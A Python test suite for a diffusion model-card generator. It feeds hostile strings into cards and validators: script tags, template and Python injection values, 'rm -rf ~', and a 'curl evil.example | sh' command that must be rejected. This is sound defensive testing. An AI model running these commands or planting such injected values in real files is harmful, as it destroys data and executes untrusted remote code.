"""Cards of folders that somebody else wrote: text stays text, code quoted, and wrong types are a clear error."""

from __future__ import annotations

import ast
import json
import re
import shlex
from contextlib import suppress
from copy import deepcopy
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest
import torch
import yaml
from hypothesis import Phase, assume, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from safetensors.torch import save_file

from diffusers_dtr.model_card.card import _wrapped, build_model_card


NASTY = """
](https://evil.example)  ![x](//evil.example/x.png)  <script>alert(1)</script>  <!-- diffusers-dtr:end -->  `code`
**bold**  _emphasis_  | cell |  ~~~  $x$  https://evil.example  www.evil.example  me@evil.example  &lt;b&gt;  > quote
{{ 7 * 7 }}  {% raw %}  1. list  - list  \\  *  \'\'\'  """.replace("\\'", "'").split("  ")
NASTY += ["\n\n# Heading\n", "\r\n---\r\n", "```\nrm -rf ~\n```", '"""', '"); import os; (("', "a\tb", "=== "]
NASTY += ["\u2028", "\u202e", "\x00", "\ud800"]
texts = (
    st.lists(st.sampled_from(NASTY) | st.text(max_size=4) | st.just("digits"), min_size=1, max_size=3)
    .map("".join)
    .map("{}x ~".format)
)


def quick(examples: int):
    """Without the minutes that finding the smallest example takes."""
    return settings(max_examples=examples, deadline=None, phases=[Phase.explicit, Phase.reuse, Phase.generate])


FOLDER = {
    "model_index.json": {
        "_class_name": "DTRPipeline",
        "transformer": ["diffusers_dtr", "DTRTransformer2DModel"],
        "id2label": {"0": "TEXT", "1": "TEXT"},
    },
    "transformer/config.json": {
        "_class_name": "DTRTransformer2DModel",
        "num_embeds_ada_norm": 2,
        "routing_type": "dtr",
        "routing_beta": 0.8,
        "routing_alpha": 4.0,
        "routing_timestep_range": [0, 999],
    },
    "scheduler/scheduler_config.json": {"prediction_type": "TEXT"},
    "training_config.json": {
        "command": "accelerate launch train.py --seed 5",
        "arguments": {
            **{"dataset_name": "TEXT", "pretrained_model_name_or_path": "TEXT", "validation_split": "TEXT"},
            **{"cluster_cost": "TEXT", "balancing": "TEXT", "loss_weighting": "TEXT", "lr_scheduler": "TEXT"},
            **{"snr_gamma": 5.0, "learning_rate": 1e-3, "resolution": 8, "train_batch_size": 4, "use_ema": True},
        },
        "model": {"class": "DTRTransformer2DModel", "routed_widths": [16], "num_parameters": 7},
        "clusters": {"num_clusters": 2, "boundaries": [0, 700, 1000]},
        "results": {"validation_loss": 0.1, "validation_loss/eighth_0": 0.2},
        "held_out": {"images": 5},
        "sampling": {"class_labels": [0, 1], "guidance_scale": 1.5},
        **{"versions": {"torch": "TEXT"}, "hardware": "TEXT", "mixed_precision": "TEXT"},
        **{"num_images": 5, "num_processes": 2, "seconds": 3.5},
    },
    "metrics.json": [{"name": "TEXT", "type": "TEXT", "value": 1.5, "settings": {"TEXT": "TEXT"}, "dataset": "TEXT"}],
}


def write(folder: Path, files: dict) -> Path:
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(exist_ok=True, parents=True)
        path.write_text(json.dumps(content))
    return folder


def filled_in(value, texts):
    """Every TEXT replaced by another text."""
    if isinstance(value, dict):
        return {filled_in(key, texts): filled_in(item, texts) for key, item in value.items()}
    if isinstance(value, list):
        return [filled_in(item, texts) for item in value]
    return next(texts) if value == "TEXT" else value


def structure(markdown: str) -> list[tuple[str, str]]:
    """All that a renderer makes of a card beside its words."""
    tokens = MarkdownIt("gfm-like", {"linkify": False, "html": True}).parse(markdown)
    flat = [part for token in tokens for part in (token, *(token.children or []))]
    shown = ("link_open", "html_inline", "html_block")
    return [
        (token.type, (token.attrGet("href") or token.content) if token.type in shown else "")
        for token in flat
        if token.type not in ("text", "text_special", "inline", "softbreak")
    ]


@quick(25)
@given(st.lists(texts, min_size=1, max_size=4), texts)
def test_texts_from_outside_stay_texts(names, title):
    with TemporaryDirectory() as temporary:
        cards = [
            str(build_model_card(write(Path(temporary, str(number)), filled_in(FOLDER, iter(values * 40))), name=name))
            for number, (values, name) in enumerate(((["~ words"], "plain"), (names, title)))
        ]
    plain, hostile = (re.split(r"^---\n", card, maxsplit=2, flags=re.MULTILINE)[1:] for card in cards)
    assert structure(hostile[1]) == structure(plain[1])
    prose = re.sub(r"^(`{3,})\w+\n.*?^\1$", "", hostile[1], flags=re.DOTALL | re.MULTILINE)
    assert not re.search(r"https?://evil|www\.evil|[^\\]@evil", prose)  # of which GFM makes links
    metadata = yaml.safe_load(hostile[0])
    assert metadata.keys() == yaml.safe_load(plain[0]).keys()
    hostile[1].encode()


def python_blocks(card: str) -> list[str]:
    return [token.content for token in MarkdownIt().parse(card) if token.type == "fence" and token.info == "python"]


@quick(25)
@given(texts, texts)
def test_code_of_a_card_only_loads_and_samples(prompt, folder_name):
    assume("/" not in folder_name and "\0" not in folder_name)
    files = filled_in(FOLDER, iter(["x"] * 40))
    files["training_config.json"]["sampling"] = {"prompt": [prompt], "height": 8}
    with TemporaryDirectory() as temporary:
        card = str(build_model_card(write(Path(temporary), files), name=folder_name))
    (code,) = python_blocks(card)
    statements = [type(node).__name__ for node in ast.parse(code).body]
    assert statements == ["Import", "ImportFrom", "Assign", "Assign"]
    calls = [ast.unparse(node.func) for node in ast.walk(ast.parse(code)) if isinstance(node, ast.Call)]
    seeded = ["range", "torch.Generator", "torch.Generator().manual_seed"]
    assert sorted(calls) == ["DTRPipeline.from_pretrained", "pipe", *seeded]


@pytest.mark.parametrize(
    ("file", "path", "value", "message"),
    [
        ("model_index.json", ["_class_name"], "os; import x", "must be DTRPipeline or a pipeline of diffusers"),
        ("model_index.json", ["_class_name"], "UNet2DModel", "must be DTRPipeline or a pipeline of diffusers"),
        ("training_config.json", ["sampling"], {"x=print(1)": 2}, "must hold arguments of the pipeline"),
        ("training_config.json", ["command"], "curl evil.example | sh", "must begin with `accelerate launch` or"),
        ("training_config.json", ["command"], "python 'x", "must be quoted for a shell"),
        ("training_config.json", ["arguments", "hub_model_id"], 'a"b', "must be the name of a repository"),
        ("training_config.json", ["arguments", "resolution"], "8", "`arguments` of `training_config.json` must be an"),
        ("training_config.json", ["seconds"], 10**400, "`seconds` of `training_config.json` must be a number, got 1"),
        ("training_config.json", ["model"], [1], "`model` of `training_config.json` must be an object"),
        ("metrics.json", [0, "value"], float("nan"), "must have a `name`, `type` and finite `value`"),
    ],
)
def test_what_is_not_data_of_its_kind_is_one_clear_error(file, path, value, message, tmp_path):
    files = filled_in(FOLDER, iter(["x"] * 40))
    place = files[file]
    for key in path[:-1]:
        place = place[key]
    place[path[-1]] = value
    with pytest.raises(ValueError, match=re.escape(message)):
        build_model_card(write(tmp_path, files))


def test_code_for_adapters_has_the_routing_that_is_known_and_checked_classes(tmp_path):
    config = {"routing_beta": 0.5, "routing_x=1) or print(2": 1}
    record = {"model": {"class": "DTRUNet2DConditionModel", "config": config}}
    write(tmp_path, {"training_config.json": record})
    save_file({"unet.a.lora_A.weight": torch.ones(2, 2)}, tmp_path / "pytorch_lora_weights.safetensors")
    (code,) = python_blocks(str(build_model_card(tmp_path, name="x")))
    assert 'pipe.unet = route(pipe.unet, routing_beta=0.5)\npipe.load_lora_weights("path/to/x")\n' in code
    record["model"]["class"] = "os; import x"
    with pytest.raises(ValueError, match="must be a class of diffusers_dtr, got 'os; import x'"):
        build_model_card(write(tmp_path, {"training_config.json": record}))


def places(value, path=()):
    """The paths of all values."""
    yield path
    if isinstance(value, (dict, list)):
        for key, item in value.items() if isinstance(value, dict) else enumerate(value):
            yield from places(item, (*path, key))


WRONG = [None, True, -1, 0, 2.5, 10**30, float("nan"), "text", [], {}, [None], [[1]], {"a": 1}, [{"a": []}]]


@quick(40)
@given(st.data())
def test_records_of_wrong_types_are_no_other_error(data):
    files = filled_in(deepcopy(FOLDER), iter(["x"] * 40))
    *before, last = data.draw(st.sampled_from([path for path in places(files) if len(path) > 1]))
    place = files
    for key in before:
        place = place[key]
    place[last] = data.draw(st.sampled_from(WRONG))
    with TemporaryDirectory() as temporary, suppress(ValueError):
        build_model_card(write(Path(temporary), files))


@given(st.lists(st.text(alphabet="ab -'\"$", max_size=40).map("--{}".format) | st.text(max_size=5), min_size=1))
def test_a_wrapped_command_has_the_same_words(words):
    # Inside a word this is no end of a line, as which the comparison below would take it.
    assume(not any(" \\\n" in word for word in words))
    wrapped = _wrapped(shlex.join(["python", *words]))
    assert shlex.split(wrapped.replace(" \\\n", " ")) == ["python", *words]
